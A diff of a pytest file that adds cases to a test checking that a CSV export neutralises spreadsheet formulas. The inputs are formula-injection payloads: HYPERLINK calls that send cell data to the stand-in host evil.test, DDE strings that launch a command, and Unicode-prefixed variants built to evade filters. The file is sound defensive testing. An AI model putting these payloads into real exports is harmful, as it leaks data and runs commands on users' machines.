@@ -83,7 +83,18 @@ def test_csv_export_has_one_row_per_record(tmp_path: Path) -> None:
 
 @pytest.mark.parametrize(
     "hostile",
-    ['=HYPERLINK("https://evil.test/?"&B2,"Ada")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1"],
+    [
+        '=HYPERLINK("https://evil.test/?"&B2,"Ada")',
+        "+1+cmd|' /C calc'!A0",
+        "-2+3",
+        "@SUM(A1:A9)",
+        "\t=1+1",
+        '\uff1dHYPERLINK("https://evil.test/?"&B2)',  # fullwidth equals sign
+        '\u200b=HYPERLINK("https://evil.test/")',  # zero-width space first
+        "\ufeff+1+cmd|' /C calc'!A0",  # byte order mark first
+        "\u200b\ufeff-2+3",
+        "\ufeff@SUM(A1:A9)",
+    ],
 )
 def test_csv_export_defuses_a_formula_from_a_page_or_a_message(tmp_path: Path, hostile: str) -> None:
     """A name read from a profile page or a note from an imported DM is someone else's text: opened in a
